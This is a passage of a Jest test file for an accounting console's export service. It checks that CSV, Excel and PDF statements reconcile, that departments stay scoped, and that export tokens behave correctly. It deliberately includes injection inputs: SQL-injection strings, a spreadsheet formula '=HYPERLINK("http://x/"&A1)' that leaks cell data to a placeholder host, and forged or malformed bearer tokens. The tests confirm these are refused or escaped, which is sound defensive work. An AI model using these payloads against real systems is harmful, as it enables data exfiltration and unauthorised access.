import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, beforeEach, describe, expect, it, jest } from '@jest/globals';
import { parse } from 'csv-parse/sync';
import { readXlsx } from 'hucre/xlsx';
import { ClosedLines } from '../../server/src/accounting/closed-lines.service.js';
import { StatementsService } from '../../server/src/accounting/statements.service.js';
import { CostCells } from '../../server/src/costs/cost-cells.service.js';
import { totalFen } from '../../server/src/exports/domain/report-layout.js';
import { rmbWords } from '../../server/src/exports/domain/rmb-words.js';
import { checkFocusFile, focusCheckCommand } from '../../server/src/exports/focus-check-command.js';
import { FocusExport } from '../../server/src/exports/focus-export.service.js';
import { TABLE_LINES_MAX } from '../../server/src/exports/report-files.js';
import { SpendReports } from '../../server/src/exports/spend-reports.service.js';
import { StatementReports } from '../../server/src/exports/statement-report.service.js';
import { toNodeId, uuidOf } from '../../server/src/kernel/node-id.js';
import { ok } from '../../server/src/kernel/result.js';
import { WHOLE_PROVINCE } from '../../server/src/kernel/viewer.js';
import { newId } from '../../server/src/platform/database/ids.js';
import { EntriesService } from '../../server/src/spend/entries.service.js';
import { Wall } from '../support/account-desk.ts';
import { CITY_USES, type ClosedMonthsOfTest, closeMonths } from '../support/closed-months.ts';
import { startTestConsole, type TestConsole } from '../support/console.ts';
import { ConsoleClient } from '../support/console-client.ts';

const wall = new Wall();
let console_: TestConsole;
let closed: ClosedMonthsOfTest;
let directory: string;
let people: Record<
  'finance' | 'head' | 'cityfinance' | 'secadmin' | 'sysadmin' | 'auditadmin' | 'applicant',
  ConsoleClient
>;
let ownDepartment: string;

beforeAll(async () => {
  directory = await mkdtemp(join(tmpdir(), 'jiyun-exports-'));
  console_ = await startTestConsole({ clock: wall });
  const { application, test } = console_;
  const head = await console_.signIn('head');
  ownDepartment = (await head.data('{ viewer { department { id } } }')).viewer.department.id;
  const app = { context: application, test, close: async () => {} };
  closed = await closeMonths(app, wall, [uuidOf('Department', ownDepartment) ?? '']);
  const signed = async (name: string) => [name, await console_.signIn(name)] as const;
  const names = ['finance', 'head', 'cityfinance', 'secadmin', 'sysadmin', 'auditadmin', 'applicant'];
  people = Object.fromEntries(await Promise.all(names.map(signed))) as typeof people;
}, 120_000);
afterAll(async () => {
  await console_.close();
  await rm(directory, { recursive: true, force: true });
});

type Query = Readonly<Record<string, string>>;
type Headers = Record<string, string>;
const get = (path: string, query: Query, headers: Headers) =>
  fetch(`${console_.url}/exports/${path}?${new URLSearchParams(query)}`, {
    headers: { 'accept-language': 'en', ...headers },
  });
const as = (client: ConsoleClient): Headers => ({ cookie: client.cookie ?? '' });
const bearer = (token: string): Headers => ({ authorization: `Bearer ${token}` });

let files = 0;
/** Reads a produced file back: every row through the checker. */
async function focus(query: Query, headers = as(people.finance)) {
  const answer = await get('focus.csv', query, headers);
  const text = await answer.text();
  if (answer.status !== 200) return { status: answer.status, code: JSON.parse(text).code as string };
  files += 1;
  const path = join(directory, `${files}.csv`);
  await writeFile(path, text);
  const verdict = await checkFocusFile(path);
  expect(verdict.findings).toEqual([]);
  expect(answer.headers.get('x-jiyun-rows')).toBe(String(verdict.rows));
  expect(answer.headers.get('x-jiyun-billed-fen')).toBe(String(verdict.billedFen));
  return { status: 200, billed: verdict.billedFen, rows: verdict.rows, invoices: verdict.invoices, path, text };
}

const DRAFT = `query D($month: String!, $id: ID) { draftStatement(month: $month, departmentId: $id) {
  total { amount } cities { amount } byCenter { key amount } } }`;
const draft = async (month: string, id: string | null = null, client = people.finance) =>
  (await client.data(DRAFT, { month, id })).draftStatement;

describe('FOCUS of closed months', () => {
  it('comes to the fen to what statements and database say: by month, side, department and center', async () => {
    for (const month of ['2026-09', '2026-10']) {
      const whole = await focus({ month });
      const { byCenter, cities, total } = await draft(month);
      expect([month, whole.billed]).toEqual([month, BigInt(total.amount)]);
      const [row] = await console_.test.db.query(
        `select sum(d.amount_fen) as fen from ${closed.desk.audit}.closed_document d
         left join ${closed.desk.audit}.closed_document r on r.id = d.reverses_id
         where coalesce(r.month, d.month) = ? and d.book = 'PROVINCE'`,
        [month],
      );
      expect([month, whole.billed]).toEqual([month, BigInt(row.fen)]);
      for (const { key, amount } of byCenter)
        if (key !== null) expect((await focus({ month, center: key })).billed).toBe(BigInt(amount));
      for (const id of [closed.desk.bureau.id, closed.desk.other.id, uuidOf('Department', ownDepartment) ?? '']) {
        const department = toNodeId('Department', id);
        expect((await focus({ month, department })).billed).toBe(BigInt((await draft(month, department)).total.amount));
      }
      if (month === '2026-09') expect((await focus({ month, side: 'CITIES' })).billed).toBe(BigInt(cities.amount));
    }
  });

  it('has a sum by invoice that is the statement’s, reversals and second issues with it', async () => {
    const { invoices } = await focus({ month: '2026-10' });
    const rows = await console_.test.db.query(
      `select d.kind, d.round, s.department_id, s.amount_fen, p.code from ${closed.desk.audit}.closed_statement s
       join ${closed.desk.audit}.closed_document d on d.id = s.document_id
       left join ${closed.desk.audit}.closed_document r on r.id = d.reverses_id
       join department p on p.id = s.department_id where coalesce(r.month, d.month) = '2026-10'`,
    );
    expect(rows.length).toBe(9);
    const expected = rows.map(
      ({ amount_fen, code, kind, round }: Record<string, string>) =>
        [`JY-2026-10-R${round}${kind === 'REVERSAL' ? 'V' : 'S'}-${code}`, BigInt(amount_fen ?? 0)] as const,
    );
    expect(new Map(invoices)).toEqual(new Map(expected));
  });

  it('marks corrections, reversals and second issues as Correction, and late facts by the month that they are of', async () => {
    const { text = '' } = await focus({ month: '2026-10' });
    const [header = '', ...lines] = text.trim().split('\r\n');
    const at = (name: string) => header.split(',').indexOf(name);
    // No cell before these columns holds a comma within quotes but the JSON of their own.
    const classes = new Map<string, number>();
    for (const line of lines) {
      const cells = [...line.matchAll(/("(?:[^"]|"")*"|[^,]*)(?:,|$)/g)].map(([, cell = '']) => cell);
      const key = `${cells[at('ChargeClass')]} ${cells[at('x_CorrectionCause')]}`;
      classes.set(key, (classes.get(key) ?? 0) + 1);
    }
    expect([...classes.keys()].toSorted()).toEqual(
      [' ', 'Correction LATE_FACT', 'Correction PRICE', 'Correction REISSUE', 'Correction REVERSAL']
        .concat(classes.has('Correction DISPUTE') ? ['Correction DISPUTE'] : [])
        .toSorted(),
    );
  });

  it('has parts of a common cost as what they are, each naming its rule, and they come to what was spread', async () => {
    let spread = 0n;
    for (const query of [{ month: '2026-09' }, { month: '2026-09', side: 'CITIES' }] as Query[]) {
      const { text = '' } = await focus(query);
      const [header = [], ...rows] = parse(text, { relax_column_count: false }) as string[][];
      const at = (name: string) => header.indexOf(name);
      const parts = rows.filter((row) => row[at('SkuMeter')] === 'SHARED:exports-network');
      expect(parts.length).toBeGreaterThan(0);
      for (const row of parts) {
        expect([row[at('ServiceName')], row[at('ResourceType')]]).toEqual(['Shared Costs', 'Shared Cost']);
        expect(row[at('AllocatedMethodId')]).toMatch(/^METHOD-/);
        spread += fenOf(row[at('BilledCost')]);
      }
    }
    expect(spread).toBe(1_234_567n);
  });

  it('has a name of its own for what is narrowed, so that two files of a month are never taken for each other', async () => {
    const [center] = await console_.test.db.query('select id, code from center where id = ?', [closed.centerIds[0]]);
    const nameOf = async (query: Query) => {
      const answer = await get('focus.csv', { month: '2026-09', ...query }, as(people.finance));
      await answer.text();
      return answer.headers.get('content-disposition');
    };
    expect(await nameOf({})).toBe('attachment; filename=focus-2026-09.csv');
    expect(await nameOf({ side: 'CITIES' })).toBe('attachment; filename=focus-2026-09-cities.csv');
    expect(await nameOf({ center: toNodeId('Center', center.id) })).toBe(
      `attachment; filename=focus-2026-09-${center.code}.csv`,
    );
    const nobody = { status: 404, code: 'NOT_FOUND' };
    expect(await focus({ month: '2026-09', center: toNodeId('Center', newId()) })).toEqual(nobody);
    expect(await focus({ month: '2026-09', department: toNodeId('Department', newId()) })).toEqual(nobody);
  });

  it('is refused for a month that is open, that is none, or that only somebody else has closed', async () => {
    expect(await focus({ month: '2026-11' })).toEqual({ status: 422, code: 'INVALID_INPUT' });
    for (const month of ['', '2026-13', '2026', "2026-09' or '1'='1"])
      expect(await focus({ month })).toEqual({ status: 422, code: 'INVALID_INPUT' });
    expect(await focus({ month: '2026-10', side: 'CITIES' })).toEqual({ status: 422, code: 'INVALID_INPUT' });
    const nobody = { status: 404, code: 'NOT_FOUND' };
    expect(await focus({ month: '2026-09', department: 'x' }, as(people.head))).toEqual(nobody);
  });

  it('is read page by page as it is sent, and has each line once however many pages it takes', async () => {
    const city = await focus({ month: '2026-09', side: 'CITIES' });
    expect(city.rows).toBeGreaterThan(CITY_USES);
    const lines = console_.application.get(ClosedLines, { strict: false });
    const page = jest.spyOn(lines, 'page');
    const exported = await console_.application
      .get(FocusExport, { strict: false })
      .of(WHOLE_PROVINCE, { month: '2026-09', side: 'CITIES', departmentId: null, centerId: null });
    if (!exported.ok) throw new Error(JSON.stringify(exported.error));
    const pieces = exported.value.text();
    await pieces.next();
    expect(page).toHaveBeenCalledTimes(0);
    const { value: piece = '' } = await pieces.next();
    expect(page).toHaveBeenCalledTimes(1);
    expect(String(piece).split('\r\n')).toHaveLength(1_001);
    await pieces.return(undefined);
    page.mockRestore();
  });

  it('is checked by the command, which ends with 1 and names row and column of what was changed', async () => {
    const { path = '', text = '' } = await focus({ month: '2026-09' });
    const printed: string[] = [];
    expect(await focusCheckCommand(path, (line) => printed.push(line))).toBe(0);
    expect(printed.at(-1)).toMatch(/^\d+ rows, BilledCost \d+\.\d\d CNY; 0 findings\.$/);
    const spoiled = join(directory, 'spoiled.csv');
    await writeFile(spoiled, text.replace(',CNY,', ',USD,'));
    expect(await focusCheckCommand(spoiled, (line) => printed.push(line))).toBe(1);
    expect(printed.some((line) => line.startsWith('row 2, BillingCurrency: VALUES'))).toBe(true);
    const { text: long = '' } = await focus({ month: '2026-09', side: 'CITIES' });
    await writeFile(spoiled, long.replaceAll(',CNY,', ',USD,'));
    expect(await focusCheckCommand(spoiled, (line) => printed.push(line))).toBe(1);
    // No sum of what was read before it stopped is printed as the file's.
    expect(printed.at(-1)).toBe('Stopped after 200 rows with 200 findings; the rest was not read.');
    await writeFile(spoiled, `${text}"never closed`);
    expect(await focusCheckCommand(spoiled, () => {})).toBe(2);
    expect(await focusCheckCommand(join(directory, 'none.csv'), () => {})).toBe(2);
  });

  it('is listed month by month with what it comes to', async () => {
    const MONTHS = 'query M($side: StatementSide!) { exportMonths(side: $side) { month amount statements lines } }';
    const { exportMonths } = await people.finance.data(MONTHS, { side: 'PROVINCE' });
    expect(exportMonths.map(({ month }: { month: string }) => month)).toEqual(['2026-10', '2026-09']);
    for (const { amount, month } of exportMonths) expect(amount).toBe((await draft(month)).total.amount);
    const own = await people.head.data(MONTHS, { side: 'PROVINCE' });
    for (const { amount, month, statements } of own.exportMonths) {
      expect(statements).toBe(1);
      expect(amount).toBe((await draft(month, ownDepartment)).total.amount);
    }
  });
});

/** A produced workbook, read back: its table as it stands there, without what is above and below it. */
async function workbook(path: string, query: Query, headers = as(people.finance)) {
  const answer = await get(path, query, headers);
  expect([path, answer.status]).toEqual([path, 200]);
  const { sheets } = await readXlsx(new Uint8Array(await answer.arrayBuffer()));
  const [sheet] = sheets;
  const rows = (sheet?.rows ?? []) as (string | number | null)[][];
  const total = rows.findIndex(([first]) => first === '合计');
  return {
    sheet,
    rows,
    header: rows[3] ?? [],
    table: rows.slice(4, total),
    totals: rows[total] ?? [],
    words: rows[total + 1],
  };
}
const fenOf = (yuan: unknown): bigint => BigInt(Math.round(Number(yuan) * 100));
const sumOf = (rows: readonly (readonly unknown[])[], at: number): bigint =>
  rows.reduce((sum, row) => sum + (String(row[0]).endsWith(' 小计') ? 0n : fenOf(row[at])), 0n);

describe('reports on government paper', () => {
  it('totals agree to the fen between GraphQL, Excel, CSV, FOCUS and the database (invariants 7 and 14)', async () => {
    await console_.application.get(CostCells, { strict: false }).take();
    const own = toNodeId('Department', closed.desk.bureau.id);
    for (const month of ['2026-09', '2026-10'])
      for (const department of [own, null]) {
        const query = { month, ...(department ? { department } : {}) };
        const graphql = BigInt((await draft(month, department)).total.amount);
        const { rows, table, totals, words } = await workbook('statement.xlsx', query);
        const at = totals.length - 1;
        expect([month, sumOf(table, at), fenOf(totals[at])]).toEqual([month, graphql, graphql]);
        expect([words?.[0], words?.[2]]).toEqual(['合计金额（大写）', rmbWords(graphql.toString())]);
        expect(rows.at(-2)).toEqual(expect.arrayContaining(['编制人：', '复核人：', '单位负责人：', '（盖章）']));
        const csv = (await (await get('statement.csv', query, as(people.finance))).text()).trim().split('\r\n');
        expect(fenOf(csv.at(-1)?.split(',').at(-1))).toBe(graphql);
        expect((await focus(query)).billed).toBe(graphql);
        const [row] = await console_.test.db.query(
          `select sum(l.amount_fen) as fen from ${closed.desk.audit}.closed_line l join closing c on c.id = l.document_id
           where c.live = 1 and c.kind = 'STATEMENT' and c.book = 'PROVINCE' and c.of_month = ?
             ${department ? 'and l.department_id = ?' : ''}`,
          department ? [month, closed.desk.bureau.id] : [month],
        );
        expect(BigInt(row.fen)).toBe(graphql);
        if (department === null) {
          const pivot = await workbook('costs.xlsx', { rows: 'SYSTEM', columns: 'CENTER', from: month, to: month });
          expect(fenOf(pivot.totals.at(-1))).toBe(graphql);
          for (const column of pivot.header.keys())
            if (column > 0) expect(sumOf(pivot.table, column)).toBe(fenOf(pivot.totals[column]));
        }
      }
  });

  it('adds up in 万元: rows to 小计, 小计 to 合计, and the words stay exact', async () => {
    const query = { month: '2026-09', department: toNodeId('Department', closed.desk.bureau.id), unit: 'TEN_THOUSAND' };
    const { rows, table, totals, words } = await workbook('statement.xlsx', query);
    expect(rows[2]?.at(-1)).toBe('单位：万元');
    const at = totals.length - 1;
    expect(sumOf(table, at)).toBe(fenOf(totals[at]));
    const subtotals = table.filter(([first]) => String(first).endsWith(' 小计'));
    expect(subtotals.length).toBe(2);
    expect(subtotals.reduce((sum, row) => sum + fenOf(row[at]), 0n)).toBe(fenOf(totals[at]));
    expect(words?.[2]).toBe(rmbWords((await draft('2026-09', query.department)).total.amount));
  });

  it('says its unit in every file, in CSV by the column', async () => {
    const query = { month: '2026-09', department: toNodeId('Department', closed.desk.bureau.id) };
    const headOf = async (more: Query) =>
      (await (await get('statement.csv', { ...query, ...more }, as(people.finance))).text()).split('\r\n')[0];
    expect(await headOf({})).toMatch(/,单价（元）,.*,金额（元）$/);
    expect(await headOf({ unit: 'TEN_THOUSAND' })).toMatch(/,单价（元）,.*,金额（万元）$/);
  });

  it('says of a part of a common cost how large a part it is', async () => {
    const query = { month: '2026-09', department: toNodeId('Department', closed.desk.bureau.id) };
    const { table } = await workbook('statement.xlsx', query);
    const parts = table.filter((row) => row[2] === 'exports-network');
    expect(parts.length).toBeGreaterThan(0);
    for (const row of parts) {
      const [, percent = ''] = /^分摊 (\d+\.\d\d)%$/.exec(String(row[6])) ?? [];
      // To a hundredth of a percent, of 12,345.67 yuan.
      expect(Math.abs(Number(row.at(-1)) - 123.4567 * Number(percent))).toBeLessThan(0.65);
    }
  });

  it('says of an open month that it is not closed, of a correction what it corrects', async () => {
    const department = toNodeId('Department', closed.desk.bureau.id);
    const open = await workbook('statement.xlsx', { month: '2026-11', department });
    expect(open.rows[1]?.[0]).toBe('2026-11（未结账）');
    expect(fenOf(open.totals.at(-1))).toBe(BigInt((await draft('2026-11', department)).total.amount));
    const later = await workbook('statement.xlsx', { month: '2026-10', department });
    expect(later.rows[1]?.[0]).toBe('2026-10（已结账）');
    expect(later.table.some((row) => row[5] === '2026-09' && row[6] === '调价更正')).toBe(true);
  });

  it('has budget execution item by item, which comes to what GraphQL says of the year', async () => {
    const { header, table, totals } = await workbook('budgets.xlsx', { year: '2026' });
    const { budgetTotals } = await people.finance.data(
      '{ budgetTotals(filter: { year: 2026 }) { figures { amount reserved spent available } } }',
    );
    const { amount, available, reserved, spent } = budgetTotals.figures;
    const expected = { 预算数: amount, 已占用: reserved, 已列支: spent, 可用: available };
    for (const [title, fen] of Object.entries(expected)) {
      const at = header.indexOf(title);
      expect([title, fenOf(totals[at]), sumOf(table, at)]).toEqual([
        title,
        BigInt(fen as string),
        BigInt(fen as string),
      ]);
    }
  });

  it('has reconciliation, contracts and payments for those alone who read spend', async () => {
    for (const [path, query] of [
      ['reconciliation', { year: '2026' }],
      ['contracts', {}],
      ['payments', {}],
    ] as const) {
      const { totals, table } = await workbook(`${path}.xlsx`, query as Query);
      for (const at of totals.keys())
        if (typeof totals[at] === 'number') expect([path, at, sumOf(table, at)]).toEqual([path, at, fenOf(totals[at])]);
      expect((await get(`${path}.xlsx`, query as Query, as(people.head))).status).toBe(403);
    }
    const narrow = await made(people.finance, {
      exports: ['CONTRACTS'],
      departmentId: toNodeId('Department', closed.desk.bureau.id),
    });
    expect((await get('contracts.xlsx', {}, bearer(narrow.secret))).status).toBe(404);
  });

  it('runs no formula of a name that somebody gave, in any file', async () => {
    const name = '=HYPERLINK("http://x/"&A1)';
    const [use] = closed.uses;
    await console_.test.db.query('update metered_resource set name = ? where resource_id = ?', [name, use?.resourceId]);
    const query = { month: '2026-09', department: toNodeId('Department', closed.desk.bureau.id) };
    const { sheet, table } = await workbook('statement.xlsx', query);
    expect(table.some((row) => row[1] === name)).toBe(true);
    for (const cell of sheet?.cells?.values() ?? []) expect(cell.formula).toBeUndefined();
    const csv = await (await get('statement.csv', query, as(people.finance))).text();
    expect(csv).toContain(`"'=HYPERLINK(""http://x/""&A1)"`);
    // A negative amount stays a number.
    expect(csv).not.toContain("'-");
    expect((await focus(query)).text).toContain(`"'=HYPERLINK(""http://x/""&A1)"`);
    await console_.test.db.query("update metered_resource set name = 'vm' where resource_id = ?", [use?.resourceId]);
  });

  it('of more lines than a paper takes is in sums by system and kind, and every line is in the annex', async () => {
    const reports = console_.application.get(StatementReports, { strict: false });
    const department = closed.desk.bureau.id;
    const query = { month: '2026-09', department: toNodeId('Department', department) };
    const graphql = BigInt((await draft('2026-09', query.department)).total.amount);
    const of = async (most: number) => {
      const made = await reports.of(WHOLE_PROVINCE, '2026-09', department, 'PROVINCE', most);
      if (!made.ok) throw new Error('a statement is never refused for its length');
      return { ...made.value, total: totalFen(made.value, made.value.inWords) };
    };
    const csv = (await (await get('statement.csv', query, as(people.finance))).text()).trim().split('\r\n');
    const lines = csv.length - 2;
    const systems = 2;
    // 小计 and 合计 are lines, too.
    const whole = await of(lines + systems + 1);
    expect(whole.columns.length).toBe(8);
    expect(whole.groups.reduce((sum, { rows }) => sum + rows.length, 0)).toBe(lines);
    for (const most of [lines + systems, 5, 1]) {
      const sums = await of(most);
      expect([most, sums.total]).toEqual([most, graphql]);
      expect(sums.columns.map(({ title }) => title)).toContain('资源类别');
      expect(sums.notes.at(-1)).toContain('附表（CSV）');
      expect(sums.title).toBe(whole.title);
    }
    expect(whole.total).toBe(graphql);
    // Every line of the paper is in the annex as it is there, and what it comes to stands at its end.
    const cells = csv.slice(1, -1).map((row) => row.split(','));
    expect(cells.map((row) => row[0]).toSorted()).toEqual(
      whole.groups.flatMap(({ rows }) => rows.map(([code]) => String(code))).toSorted(),
    );
    expect(cells.reduce((sum, row) => sum + fenOf(row.at(-1)), 0n)).toBe(graphql);
    expect(fenOf(csv.at(-1)?.split(',').at(-1))).toBe(graphql);
  });

  it('reads no row of a list that is too long for its file', async () => {
    const entries = console_.application.get(EntriesService, { strict: false });
    const page = jest.spyOn(entries, 'page');
    page.mockResolvedValueOnce({ rows: [], totalCount: TABLE_LINES_MAX, hasNextPage: true });
    expect((await get('payments.xlsx', {}, as(people.finance))).status).toBe(422);
    expect(page).toHaveBeenCalledTimes(1);
    page.mockRestore();
  });

  it('is a paper, too; the same facts are the same paper', async () => {
    const query = { month: '2026-09', department: toNodeId('Department', closed.desk.bureau.id) };
    const paper = async () => Buffer.from(await (await get('statement.pdf', query, as(people.finance))).arrayBuffer());
    const [one, other] = [await paper(), await paper()];
    expect(one.subarray(0, 5).toString()).toBe('%PDF-');
    expect(one.equals(other)).toBe(true);
  });

  it('says on the paper of what alone it is: department, system, center, and what its reader may see', async () => {
    const noteOf = async (query: Query, headers = as(people.finance)) =>
      (await workbook('costs.xlsx', { from: '2026-09', to: '2026-10', ...query }, headers)).rows.flat().join('\n');
    const [owned] = await console_.test.db.query("select id, name from government_system where code = 'XT-EXPORTS'");
    const [center] = await console_.test.db.query('select id, name from center where id = ?', [closed.centerIds[0]]);
    const bureau = toNodeId('Department', closed.desk.bureau.id);
    const ids = { department: bureau, system: toNodeId('System', owned.id), center: toNodeId('Center', center.id) };
    expect(await noteOf(ids)).toContain(
      `仅列示单位为${closed.desk.bureau.name}，系统为${owned.name}，数据中心为${center.name}的费用。`,
    );
    expect(await noteOf({ project: 'NONE' })).toContain('仅列示未归属项目的费用。');
    expect(await noteOf({})).not.toContain('仅列示');
    const { secret } = await made(people.finance, { exports: ['COSTS'], departmentId: bureau });
    expect(await noteOf({}, bearer(secret))).toContain(`仅列示${closed.desk.bureau.name}的费用。`);
  });

  it('refuses a word that it does not know, instead of leaving it out and giving more than was asked for', async () => {
    const range = { from: '2026-09', to: '2026-10' };
    for (const more of [
      { kind: 'VM' },
      { share: 'main' },
      { columns: 'X' },
      { rows: 'X' },
      { unit: '万元' },
      { dr: '0' },
    ] as Query[])
      expect([more, (await get('costs.csv', { ...range, ...more }, as(people.finance))).status]).toEqual([more, 422]);
    expect(await focus({ month: '2026-09', side: 'CITY' })).toEqual({ status: 422, code: 'INVALID_INPUT' });
  });

  it('is refused where it would end before its last row, or hold more rows than are made at once', async () => {
    const statements = console_.application.get(StatementsService, { strict: false });
    const page = jest.spyOn(statements, 'departments');
    page.mockResolvedValueOnce({ rows: [], totalCount: 2_001, hasNextPage: true });
    expect((await get('statement.xlsx', { month: '2026-09' }, as(people.finance))).status).toBe(422);
    page.mockRestore();
    const payments = jest.spyOn(console_.application.get(SpendReports, { strict: false }), 'payments');
    const columns = [
      { title: '凭证号', share: 1 },
      { title: '金额', share: 1, money: true },
    ];
    const rows = Array.from({ length: TABLE_LINES_MAX }, () => ['x', { fen: 1n }]);
    payments.mockResolvedValueOnce(
      ok({ ...{ title: '付款明细表', subtitle: '', columns, inWords: 1, notes: [] }, groups: [{ name: '', rows }] }),
    );
    expect((await get('payments.xlsx', {}, as(people.finance))).status).toBe(422);
    payments.mockRestore();
  });

  it('shows a department its own and nothing else, and refuses what is asked wrongly', async () => {
    const other = toNodeId('Department', closed.desk.bureau.id);
    const own = await workbook('statement.xlsx', { month: '2026-09' }, as(people.head));
    expect(fenOf(own.totals.at(-1))).toBe(BigInt((await draft('2026-09', ownDepartment)).total.amount));
    const status = async (path: string, query: Query, client = people.head) =>
      (await get(path, query, as(client))).status;
    expect(await status('statement.xlsx', { month: '2026-09', department: other })).toBe(404);
    expect(await status('statement.docx', { month: '2026-09' })).toBe(404);
    expect(await status('statement.xlsx', { month: '2026-9' })).toBe(422);
    expect(await status('costs.xlsx', { from: '2026-09', to: '2026-08' })).toBe(422);
    expect(await status('costs.xlsx', { from: '2026-09', to: '2026-09', rows: 'MONTH', columns: 'MONTH' })).toBe(422);
    expect(await status('budgets.xlsx', { year: 'x' })).toBe(422);
    const budgets = await workbook('budgets.xlsx', { year: '2026' }, as(people.head));
    const departments = new Set(budgets.table.map(([first]) => String(first).replace(/ 小计$/, '')));
    expect(departments.size).toBe(1);
    const costs = await workbook('costs.xlsx', { from: '2026-09', to: '2026-10', department: other }, as(people.head));
    expect(fenOf(costs.totals.at(-1))).toBe(0n);
  });
});

const CREATE = `mutation C($input: CreateExportTokenInput!) { createExportToken(input: $input) {
  secret token { id version state expiresAt availableActions } errors { code path ... on NotPermitted { reason } } } }`;
const ACT = (name: string) =>
  `mutation A($input: ExportTokenActInput!) { ${name}(input: $input) { token { id version state availableActions } errors { code ... on NotPermitted { reason } } } }`;
const create = async (client: ConsoleClient, more: Record<string, unknown> = {}) =>
  client.ask(CREATE, {
    input: { idempotencyKey: newId(), kind: 'PERSONAL', purpose: '月报脚本', exports: ['FOCUS'], days: 30, ...more },
  });
const made = async (client: ConsoleClient, more: Record<string, unknown> = {}) =>
  (await create(client, more)).data.createExportToken as {
    secret: string;
    token: { id: string; version: number; state: string };
  };
const act = async (client: ConsoleClient, name: string, token: { id: string; version: number }) =>
  (
    await client.ask(ACT(name), {
      input: { idempotencyKey: newId(), id: token.id, expectedVersion: token.version },
    })
  ).data?.[name];
const month = { month: '2026-09' };

describe('a token', () => {
  // Nobody has more than ten that live, and each of these makes its own.
  beforeEach(() => end('1 = 1', new Date(wall.now().getTime() - 1)));

  it('reads what its owner reads, of exports that it names, and nothing else of the console', async () => {
    const { secret } = await made(people.finance);
    const whole = await focus(month);
    expect((await focus(month, bearer(secret))).text).toBe(whole.text);
    const graphql = await fetch(`${console_.url}/graphql`, {
      method: 'POST',
      headers: { 'content-type': 'application/json', ...bearer(secret) },
      body: JSON.stringify({ query: '{ viewer { username } }' }),
    });
    expect(((await graphql.json()) as { data: unknown }).data).toEqual({ viewer: null });
    for (const path of ['papers/requests/x/form.pdf', 'files/x'])
      expect((await fetch(`${console_.url}/${path}`, { headers: bearer(secret) })).status).toBe(401);
  });

  it('is kept as a hash, shown once, and not shown again to the same press', async () => {
    const input = { idempotencyKey: newId(), kind: 'PERSONAL', purpose: '一次', exports: ['FOCUS'], days: 1 };
    const [first, second] = [await people.finance.ask(CREATE, { input }), await people.finance.ask(CREATE, { input })];
    const { secret, token } = first.data.createExportToken;
    expect(second.data.createExportToken).toMatchObject({ secret: null, token: { id: token.id } });
    const [, publicId, hidden] = String(secret).split('_');
    const everything = await console_.test.db.query('select * from export_token where public_id = ?', [publicId]);
    expect(JSON.stringify(everything)).not.toContain(hidden);
    for (const table of ['idempotency_key', `${closed.desk.audit}.audit_event`])
      expect(JSON.stringify(await console_.test.db.query(`select * from ${table}`))).not.toContain(hidden);
  });

  it('never reads another department’s lines, whatever is asked and whoever made it', async () => {
    const other = toNodeId('Department', closed.desk.bureau.id);
    const { secret } = await made(people.head);
    const own = await focus(month, bearer(secret));
    expect(own.billed).toBe(BigInt((await draft('2026-09', ownDepartment)).total.amount));
    expect(own.text).not.toContain(closed.desk.bureau.code);
    for (const query of [
      { ...month, department: other },
      { ...month, department: toNodeId('Department', newId()) },
    ])
      expect(await focus(query, bearer(secret))).toEqual({ status: 404, code: 'NOT_FOUND' });
    // Asked for the cities' side, a department gets its own all the same.
    expect((await focus({ ...month, side: 'CITIES' }, bearer(secret))).text).toBe(own.text);
    const narrow = await made(people.finance, { departmentId: other });
    const bureau = await focus(month, bearer(narrow.secret));
    expect(bureau.billed).toBe(BigInt((await draft('2026-09', other)).total.amount));
    expect(await focus({ ...month, department: ownDepartment }, bearer(narrow.secret))).toMatchObject({ status: 404 });
    const beyond = await create(people.head, { departmentId: other });
    expect(beyond.data.createExportToken).toMatchObject({
      secret: null,
      errors: [{ code: 'UNKNOWN_REFERENCE', path: ['departmentId'] }],
    });
    // A city reads its own book and nothing of the province's.
    expect(await focus(month, as(people.cityfinance))).toMatchObject({ status: 422 });
  });

  it.each([
    ['no header at all', () => ({})],
    ['an empty one', () => ({ authorization: '' })],
    ['another scheme', (token: string) => ({ authorization: `Basic ${token}` })],
    ['no scheme', (token: string) => ({ authorization: token })],
    ['a token that nobody made', () => bearer(`jyt_0123456789abcdef_${'A'.repeat(43)}`)],
    ['the secret of another', (token: string) => bearer(`${token.slice(0, 21)}${'A'.repeat(43)}`)],
    ['a secret with one letter changed', (token: string) => bearer(changed(token))],
    ['a secret in capitals', (token: string) => bearer(token.slice(0, 21) + token.slice(21).toUpperCase())],
    ['a secret cut short', (token: string) => bearer(token.slice(0, -1))],
    ['a secret with more behind it', (token: string) => bearer(`${token}A`)],
    ['two tokens', (token: string) => bearer(`${token}, Bearer ${token}`)],
    ['a wildcard', (token: string) => bearer(`${token.slice(0, 21)}${'%'.repeat(43)}`)],
    ['a quote', (token: string) => bearer(`${token.slice(0, 21)}' or '1'='1`)],
    ['a very long one', () => bearer(`jyt_${'a'.repeat(4_000)}`)],
  ])('attack: %s opens nothing', async (_what, headersOf) => {
    const { secret } = await made(people.finance, { days: 1 });
    expect(await focus(month, headersOf(secret) as Headers)).toEqual({
      status: 401,
      code: 'UNAUTHENTICATED',
    });
  });

  it('attack: the hash is no secret, an address carries none, and a session does not help a wrong token', async () => {
    const { secret } = await made(people.finance);
    const [row] = await console_.test.db.query('select secret_hash, public_id from export_token where public_id = ?', [
      secret.slice(4, 20),
    ]);
    for (const text of [row.secret_hash, `jyt_${row.public_id}_${row.secret_hash.slice(0, 43)}`])
      expect(await focus(month, bearer(text))).toMatchObject({ status: 401 });
    for (const name of ['token', 'access_token', 'authorization'])
      expect(await focus({ ...month, [name]: secret }, {})).toMatchObject({ status: 401 });
    const wrong = { ...as(people.finance), ...bearer(changed(secret)) };
    expect(await focus(month, wrong)).toMatchObject({ status: 401 });
  });

  it('opens nothing once it is revoked, at once and for good; another’s is not revoked', async () => {
    const { secret, token } = await made(people.finance);
    expect((await focus(month, bearer(secret))).status).toBe(200);
    expect(await act(people.head, 'revokeExportToken', token)).toMatchObject({
      errors: [{ code: 'UNKNOWN_REFERENCE' }],
    });
    const used = await current(token.id);
    expect(await act(people.finance, 'revokeExportToken', used)).toMatchObject({ token: { state: 'REVOKED' } });
    expect(await focus(month, bearer(secret))).toEqual({ status: 401, code: 'UNAUTHENTICATED' });
    expect(await act(people.finance, 'revokeExportToken', { ...used, version: 2 })).toMatchObject({
      errors: [{ code: 'ILLEGAL_TRANSITION' }],
    });
  });

  it('opens nothing from its end on', async () => {
    const { secret, token } = await made(people.finance);
    await end(`id = '${uuidOf('ExportToken', token.id)}'`, wall.now());
